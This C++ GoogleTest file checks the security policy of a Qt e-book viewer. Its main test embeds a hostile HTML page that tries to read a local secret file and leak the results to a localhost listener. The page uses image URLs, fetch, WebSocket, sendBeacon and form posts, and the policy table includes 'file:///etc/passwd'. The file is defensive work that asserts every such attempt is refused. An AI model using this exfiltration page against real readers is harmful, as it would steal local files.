// A book page reads its own book only and reaches no network address by itself, in the
// main browser and in every viewer window alike; a web link the reader clicks is followed.
#include <gtest/gtest.h>

#include <QDir>
#include <QFile>
#include <QSignalSpy>
#include <QTcpServer>
#include <QTcpSocket>
#include <QTemporaryDir>
#include <memory>
#include <vector>

#include "GlobalVars.h"
#include "PagePolicy.h"
#include "TBookSchemeHandler.h"
#include "Tfrm_ExternalViewer.h"
#include "browser_test_util.h"

namespace {

void WriteFile(const QString& path, const QByteArray& bytes) {
    QDir().mkpath(QFileInfo(path).absolutePath());
    QFile file(path);
    ASSERT_TRUE(file.open(QIODevice::WriteOnly));
    file.write(bytes);
}

std::string ProgramForm(QString folder) {
    folder.replace(QLatin1Char('/'), QLatin1Char('\\'));
    return folder.toStdString() + "\\";
}

// A web server on 127.0.0.1 that counts the requests it gets and answers each with a page.
class TListener {
public:
    TListener() {
        EXPECT_TRUE(Server.listen(QHostAddress::LocalHost));
        QObject::connect(&Server, &QTcpServer::newConnection, [this] {
            while (QTcpSocket* socket = Server.nextPendingConnection()) {
                ++Connections;
                QObject::connect(socket, &QTcpSocket::readyRead, socket, [socket] {
                    socket->readAll();
                    socket->write("HTTP/1.0 200 OK\r\nContent-Type: text/html\r\n\r\n<html><body>WEB</body></html>");
                    socket->disconnectFromHost();
                });
            }
        });
    }
    QString Url(const char* path = "") const {
        return QStringLiteral("http://127.0.0.1:%1/%2").arg(Server.serverPort()).arg(QLatin1String(path));
    }
    int Connections = 0;

private:
    QTcpServer Server;
};

class BrowserSecurityTest : public ::testing::Test {
protected:
    void SetUp() override {
        ASSERT_TRUE(dir.isValid());
        book = dir.path() + QStringLiteral("/книга");
        secret = dir.path() + QStringLiteral("/secret.txt");
        WriteFile(secret, "SECRET-TEXT");
        WriteFile(book + "/inside.txt", "INSIDE-TEXT");
        WriteFile(book + "/other.html", "<html><head><meta charset='utf-8'></head><body>Другая страница</body></html>");
        browser.resize(800, 600);
        browser.show();
        browser.SetBaseFolder(ProgramForm(book));
        browser.OnNewWindow = [this](TWebBrowser*& target, bool&) {
            viewers.push_back(std::make_unique<Tfrm_ExternalViewer>(Settings));
            viewers.back()->show();
            target = viewers.back()->wb_Browser;
        };
    }
    QString Results() { return EvalJs(browser, QStringLiteral("window.results.join('\\n')")).toString(); }
    // Clicks the element with the given id as the reader would, with the mouse.
    void ReaderClicks(const char* id) {
        const QStringList at =
            EvalJs(browser, QStringLiteral("(() => { const r = document.getElementById('%1').getBoundingClientRect();"
                                           " return (r.x + 3) + ',' + (r.y + 3); })()")
                                .arg(QLatin1String(id)))
                .toString()
                .split(QLatin1Char(','));
        ASSERT_EQ(at.size(), 2);
        QWidget* target = browser.View()->focusProxy();
        ASSERT_NE(target, nullptr);
        QTest::mouseClick(target, Qt::LeftButton, {}, QPoint(int(at[0].toDouble()), int(at[1].toDouble())));
    }

    QTemporaryDir dir;
    QString book, secret;
    TListener listener;
    TWebBrowser browser;
    std::vector<std::unique_ptr<Tfrm_ExternalViewer>> viewers;
};

// Every way a page loads something by itself, from markup and from script: only the file of
// its own book arrives, the file beside the book and the web server get nothing.
TEST_F(BrowserSecurityTest, HostilePageReadsNoOutsideFileAndReachesNoAddress) {
    const QString web = listener.Url();
    const QString file = QUrl::fromLocalFile(secret).toString();
    const QString html = QStringLiteral(R"(<html><head>
<meta http-equiv="refresh" content="0;url=%1refresh">
<link rel="stylesheet" href="%1style.css"><script src="%1script.js"></script>
<style>@import url("%1import.css"); body { background: url("%1bg.png"); }</style>
</head><body><p id="text">Страница</p>
<img src="%2"><img src="%1img.png"><iframe src="%2"></iframe><iframe src="%1frame"></iframe>
<form id="form" method="post" action="%1form"><input name="a" value="b"></form>
<script>
window.results = [];
const note = (what, p) => p.then(t => results.push(what + ':' + t), () => results.push(what + ':refused'));
const xhr = url => new Promise((ok, no) => {
  const r = new XMLHttpRequest(); r.open('GET', url); r.onload = () => ok(r.responseText); r.onerror = no; r.send(); });
Promise.allSettled([
  note('xhr-inside', xhr('inside.txt')),
  note('fetch-file', fetch('%2').then(r => r.text())),
  note('xhr-file', xhr('%2')),
  note('book-scheme-outside', xhr('../secret.txt')),
  note('fetch-web', fetch('%1fetch', {mode: 'no-cors'}).then(() => 'sent')),
  note('xhr-web', xhr('%1xhr')),
]).then(() => {
  new Image().src = '%1leak?' + encodeURIComponent(results.join(','));
  try { new WebSocket('ws://127.0.0.1:%3/socket'); } catch (e) {}
  try { new EventSource('%1events'); } catch (e) {}
  try { navigator.sendBeacon('%1beacon', 'x'); } catch (e) {}
  window.open('%1window'); window.open('%2');
  document.getElementById('form').submit();
  setTimeout(() => { location.href = '%2'; }, 50);
  setTimeout(() => { location.href = '%1location'; }, 100);
  setTimeout(() => results.push('done'), 400);
});
</script></body></html>)")
                             .arg(web, file)
                             .arg(QUrl(web).port());
    QSignalSpy refused(&browser, &TWebBrowser::NavigationRefused);
    ASSERT_TRUE(ShowPage(browser, html.toStdString()));
    const QUrl page = browser.View()->url();
    ASSERT_TRUE(WaitFor([&] { return Results().endsWith(QStringLiteral("done")); }));
    QTest::qWait(500);  // whatever is still under way reaches the listener by now

    const QString results = Results();
    EXPECT_TRUE(results.contains(QStringLiteral("xhr-inside:INSIDE-TEXT"))) << results.toStdString();
    EXPECT_FALSE(results.contains(QStringLiteral("SECRET"))) << results.toStdString();
    for (const char* refusedLoad : {"fetch-file:refused", "xhr-file:refused", "book-scheme-outside:refused",
                                    "fetch-web:refused", "xhr-web:refused"})
        EXPECT_TRUE(results.contains(QLatin1String(refusedLoad))) << refusedLoad;
    EXPECT_EQ(listener.Connections, 0);
    EXPECT_TRUE(viewers.empty()) << "no window opens for a refused address";
    EXPECT_EQ(browser.View()->url(), page);
    EXPECT_GE(refused.count(), 4);  // two windows, the form and the locations (the refresh may come first)
}

TEST_F(BrowserSecurityTest, WebLinkIsFollowedWhenTheReaderClicksItNotWhenAScriptDoes) {
    const QString html = QStringLiteral(
                             "<html><body><a id='web' href='%1page'>сайт</a> <a id='blank' href='%1popup' "
                             "target='_blank'>окно</a></body></html>")
                             .arg(listener.Url());
    ASSERT_TRUE(ShowPage(browser, html.toStdString()));
    QSignalSpy refused(&browser, &TWebBrowser::NavigationRefused);
    EvalJs(browser, QStringLiteral("document.getElementById('web').click(); document.getElementById('blank').click()"));
    ASSERT_TRUE(WaitFor([&] { return refused.count() == 2; }));
    EXPECT_TRUE(refused.at(0).at(0).toString().contains(listener.Url("page")));
    EXPECT_EQ(listener.Connections, 0);
    EXPECT_TRUE(viewers.empty());

    ReaderClicks("blank");
    ASSERT_TRUE(WaitFor([&] { return !viewers.empty() && BodyText(*viewers.front()->wb_Browser) == "WEB"; }));
    ReaderClicks("web");
    EXPECT_TRUE(WaitFor([&] { return browser.View()->url().toString() == listener.Url("page"); }));
    EXPECT_TRUE(WaitFor([&] { return BodyText(browser) == "WEB"; }));
    EXPECT_GE(listener.Connections, 2);
}

TEST_F(BrowserSecurityTest, FileLinkShowsABookFileThroughThePageSchemeAndRefusesAnyOther) {
    const QString html =
        QStringLiteral(
            "<html><body><a id='outside' href='%1'>вне</a><a id='inside' href='%2'>в книге</a>"
            "</body></html>")
            .arg(QUrl::fromLocalFile(secret).toString(), QUrl::fromLocalFile(book + "/other.html").toString());
    ASSERT_TRUE(ShowPage(browser, html.toStdString()));
    const QUrl page = browser.View()->url();
    QSignalSpy refused(&browser, &TWebBrowser::NavigationRefused);
    ReaderClicks("outside");
    ASSERT_TRUE(WaitFor([&] { return refused.count() == 1; }));
    EXPECT_TRUE(refused.at(0).at(0).toString().contains(QStringLiteral("файл вне папки книги")));
    EXPECT_EQ(browser.View()->url(), page);

    EvalJs(browser, QStringLiteral("document.getElementById('inside').click()"));
    ASSERT_TRUE(WaitFor([&] { return BodyText(browser) == QStringLiteral("Другая страница"); }));
    EXPECT_EQ(browser.View()->url().scheme(), QLatin1String(BookPageScheme));
}

TEST(PagePolicy, LoadsAndNavigationsOfBookAndWebPages) {
    const QUrl bookPage("tmrbook://book/b/tomeria-page-1.html"), webPage("https://example.org/a");
    struct Load {
        const char* request;
        QUrl firstParty;
        bool mainFrame, allowed;
    };
    const Load loads[] = {
        {"tmrbook://book/b/pic.png", bookPage, false, true},
        {"data:image/png;base64,AAAA", bookPage, false, true},
        {"file:///etc/passwd", bookPage, false, false},
        {"http://127.0.0.1/x", bookPage, false, false},
        {"ws://127.0.0.1/x", bookPage, false, false},
        {"ftp://host/x", bookPage, false, false},
        {"qrc:/icons/open.svg", bookPage, false, false},
        {"http://127.0.0.1/x", QUrl("about:blank"), false, false},  // a window a book page wrote into
        {"http://127.0.0.1/x", QUrl(), false, false},
        {"https://example.org/pic.png", webPage, false, true},  // a web page the reader went to
        {"file:///etc/passwd", webPage, false, false},
        {"tmrbook://book/b/pic.png", webPage, false, false},
        {"file:///etc/passwd", bookPage, true, false},
        {"https://example.org/", bookPage, true, true},  // judged as a navigation before
    };
    for (const Load& c : loads)
        EXPECT_EQ(MayPageLoad(QUrl(c.request), c.firstParty, c.mainFrame), c.allowed) << c.request;

    using V = TNavigationVerdict;
    struct Navigation {
        const char* url;
        bool mainFrame, gesture;
        QUrl page;
        V verdict;
    };
    const Navigation navigations[] = {
        {"tomeri://showdoc/?DivID=a", true, false, bookPage, V::Follow},
        {"tmrbook://book/b/other.html", true, false, bookPage, V::Follow},
        {"about:blank", true, false, bookPage, V::Follow},
        {"https://example.org/", true, true, bookPage, V::Follow},
        {"https://example.org/", true, false, bookPage, V::RefuseWeb},
        {"https://example.org/", false, true, bookPage, V::RefuseWeb},  // a frame of a book page
        {"https://example.org/b", true, false, webPage, V::Follow},
        {"https://example.org/f", false, false, webPage, V::Follow},
        {"file:///etc/passwd", true, true, bookPage, V::BookFile},
        {"ftp://host/x", true, true, bookPage, V::RefuseOther},
        {"mailto:a@b.c", true, true, bookPage, V::RefuseOther},
        {"data:text/html,x", true, true, bookPage, V::RefuseOther},
    };
    for (const Navigation& c : navigations)
        EXPECT_EQ(JudgeNavigation(QUrl(c.url), c.mainFrame, c.gesture, c.page), c.verdict) << c.url;
}

}  // namespace
